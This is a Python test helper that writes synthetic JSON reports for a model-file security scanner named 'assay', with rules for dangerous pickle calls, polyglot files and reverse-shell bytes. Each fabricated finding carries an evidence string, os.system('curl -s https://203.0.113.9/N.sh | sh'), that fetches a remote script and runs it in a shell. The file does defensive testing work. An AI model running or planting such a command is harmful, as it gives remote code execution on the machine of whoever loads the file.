"""Stored reports of any size, as assay scan -o json would write them, for tests and measurements."""
import hashlib, json

FILES = 10  # of each model
RULES = [("pickle/dangerous-call", "critical", 502, "Loading calls a function that can run code"),
         ("pickle/dangerous-import", "high", 502, "Loading imports a function that can run code"),
         ("pickle/unknown-import", "medium", 502, "Loading imports a name that no list knows"),
         ("pickle/unknown-call", "high", 502, "Loading calls a function that no list knows"),
         ("format/polyglot", "high", 434, "One file that two unrelated loaders accept"),
         ("yara/reverse-shell", "high", 506, "Bytes of a reverse shell")]


def finding(path, i):
    rule, severity, cwe, title = RULES[i % len(RULES)]
    return {"rule": rule, "title": title, "severity": severity, "cwe": cwe, "path": path, "member": "archive/data.pkl",
            "offset": 64 + 31 * i, "message": "called by REDUCE, argument %d" % i,
            "evidence": "os.system('curl -s https://203.0.113.9/%d.sh | sh')" % i,
            "fingerprint": hashlib.sha256(b"%d" % i).hexdigest(), "suppressed": False}


def artifact(findings, **more):
    return {**more, "formats": ["zip"], "executes": True, "status": "complete", "reason": "", "findings": findings,
            "findings_dropped": 0}


def model(number, count, target, identity):
    files, findings = [], []
    for n in range(FILES):
        each = count // FILES + (n < count % FILES)
        path = "part-%02d.pt" % n
        member = {"path": "archive/data.pkl", "offset": 64, **artifact(each, size=1 << 20), "members_total": 0, "members": []}
        files.append({"path": path, "digests": {"sha256": hashlib.sha256(b"%d/%d" % (number, n)).hexdigest()},
                      "expected": [], "metadata": [], "signed": False, "signature": None, "shared": False,
                      **artifact(0, size=1 << 24), "members_total": 1, "members": [member]})
        findings += [finding(path, i) for i in range(each)]
    target = target % number
    return {"target": target, "identity": identity or target,
            "origin": {"registry": "huggingface", "title": "Hugging Face Hub", "name": "acme/bench-%d" % number,
                       "revision": "4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4", "trust": "medium", "basis": "stated",
                       "evidence": "--origin", "advice": None, "pinned": True, "agrees": False},
            "other_origins": [], "trust": "medium", "verdict": "fail" if count else "pass",
            "reasons": ["%d findings" % count] if count else [], "metadata": [], "provenance": [], "signatures": [],
            "files": files, "findings": findings, "findings_dropped": 0}


def result(path, count, models=10, errors=0, target="models/bench-%d", identity=None):
    """A stored report with `count` findings, spread over the files of the models."""
    found = {s: 0 for s in ("critical", "high", "medium", "low", "info")}
    each = [count // models + (i < count % models) for i in range(models)]
    for n in each:
        for k in range(FILES):
            for i in range(n // FILES + (k < n % FILES)):
                found[RULES[i % len(RULES)][1]] += 1
    whole = {"schema": "assay-report/1", "tool": {"name": "assay", "version": "0.1.0", "rules_digest": None},
             "policy": {"name": "default", "digest": None, "fail_on": "high", "clauses": [], "warnings": []},
             "gate": "default", "confined": True, "verdict": "fail" if count else "incomplete" if errors else "pass",
             "exit_code": 1 if count else 2 if errors else 0,
             "summary": {"models": models, "files": {"complete": models * FILES, "incomplete": 0, "skipped": 0, "failed": 0},
                         "findings": found, "bytes": models * FILES << 24},
             "models": [model(i, n, target, identity) for i, n in enumerate(each)],
             "errors": [{"target": "missing-%d" % i, "code": "io", "message": "cannot be read", "retryable": False}
                        for i in range(errors)],
             "run": {"started": "2026-01-01T00:00:00Z", "seconds": 1.0, "sandbox": "seccomp", "jobs": 2}}
    with open(path, "w", encoding="utf-8") as f:  # seconds to three places
        f.write(json.dumps(whole, indent=2).replace('"seconds": 1.0', '"seconds": 1.000') + "\n")
